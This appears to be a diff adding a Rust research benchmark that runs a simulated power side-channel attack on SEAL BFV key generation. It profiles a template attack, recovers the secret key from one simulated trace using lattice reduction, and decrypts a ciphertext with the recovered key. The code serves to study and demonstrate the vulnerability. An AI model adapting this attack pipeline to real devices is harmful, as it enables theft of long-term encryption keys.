@@ -1,0 +1,97 @@
+//! **Key-generation attack**: the paper attacks `Encrypt` (one trace → one
+//! message), but SEAL's `KeyGen` draws its noise `e` through the *same*
+//! vulnerable routine — so one trace of key generation yields the long-term
+//! **secret key** via `s = a⁻¹·(−p0 − e)`, compromising every past and
+//! future ciphertext. This binary runs that variant end to end.
+//!
+//! Run with `cargo run --release -p reveal-bench --bin keygen_attack`.
+
+use rand::rngs::StdRng;
+use rand::SeedableRng;
+use reveal_attack::{recover_secret_key_adaptive, AttackConfig, Device, TrainedAttack};
+use reveal_bfv::{
+    BfvContext, Decryptor, EncryptionParameters, Encryptor, KeyGenerator, Plaintext, SecretKey,
+};
+use reveal_math::Modulus;
+use reveal_rv32::power::PowerModelConfig;
+
+fn main() {
+    let n = 32usize;
+    let q = 3329u64;
+    let t = 16u64;
+    let trials = if std::env::var_os("REVEAL_QUICK").is_some() { 3 } else { 10 };
+    println!("Key-generation attack (n = {n}, q = {q}): one KeyGen trace -> secret key\n");
+
+    let parms = EncryptionParameters::new(
+        n,
+        vec![Modulus::new(q).expect("q")],
+        Modulus::new(t).expect("t"),
+    )
+    .expect("parameters");
+    let ctx = BfvContext::new(parms).expect("context");
+    let device = Device::new(n, &[q], PowerModelConfig::default().with_noise_sigma(0.02))
+        .expect("device");
+    let mut adv_rng = StdRng::seed_from_u64(222);
+    let attack = TrainedAttack::profile(&device, 60, &AttackConfig::default(), &mut adv_rng)
+        .expect("profiling");
+
+    let mut rng = StdRng::seed_from_u64(333);
+    let mut recovered_keys = 0usize;
+    for trial in 0..trials {
+        // The victim generates a fresh key pair; the adversary records the
+        // keygen noise sampling.
+        let keygen = KeyGenerator::new(&ctx);
+        let sk = keygen.secret_key(&mut rng);
+        let pk = keygen.public_key(&sk, &mut rng);
+        // Ground-truth keygen noise from the key relation (this is what the
+        // device sampled; we mirror it into the trace).
+        let neg_e = pk.p0().add(&pk.p1().mul(sk.as_rns()));
+        let e_true: Vec<i64> = neg_e.residues()[0].to_signed().iter().map(|&x| -x).collect();
+        let capture = device.capture_chosen(&e_true, &mut rng).expect("capture");
+        let Ok(result) = attack.attack_trace_expecting(&capture.run.capture.samples, n) else {
+            println!("trial {trial}: segmentation mismatch");
+            continue;
+        };
+
+        // Confidence-ordered exact relations + BKZ finisher (the same
+        // machinery as the message attack, against the key relation).
+        let estimates: Vec<(i64, f64)> = result
+            .coefficients
+            .iter()
+            .map(|c| (c.predicted, c.confidence()))
+            .collect();
+        let (s_rec, trusted) = match recover_secret_key_adaptive(&ctx, &pk, &estimates, 0.85) {
+            Ok(r) => r,
+            Err(e) => {
+                println!(
+                    "trial {trial}: not recovered ({e}; value accuracy {:.0}%)",
+                    100.0 * result.value_accuracy(&e_true)
+                );
+                continue;
+            }
+        };
+        assert_eq!(s_rec, sk.coefficients(), "recovered key must be the real one");
+        // Prove it: decrypt a ciphertext with the stolen key.
+        let stolen = SecretKey::from_coefficients(&ctx, s_rec);
+        let enc = Encryptor::new(&ctx, &pk);
+        let ct = enc.encrypt(&Plaintext::constant(&ctx, 9), &mut rng);
+        let m = Decryptor::new(&ctx, &stolen).decrypt(&ct);
+        assert_eq!(m.coeffs()[0], 9);
+        recovered_keys += 1;
+        println!(
+            "trial {trial}: SECRET KEY RECOVERED from {trusted}/{n} trusted relations \
+             (value accuracy {:.0}%), stolen key decrypts",
+            100.0 * result.value_accuracy(&e_true)
+        );
+    }
+    println!("\nkeys recovered: {recovered_keys}/{trials}");
+    assert!(
+        recovered_keys * 2 >= trials,
+        "most keygen traces should yield the key at this SNR"
+    );
+    println!(
+        "reading: unlike the per-message Encrypt attack, one KeyGen trace breaks \
+         every ciphertext ever produced under the key — the sampler must be \
+         protected in *all* call sites."
+    );
+}
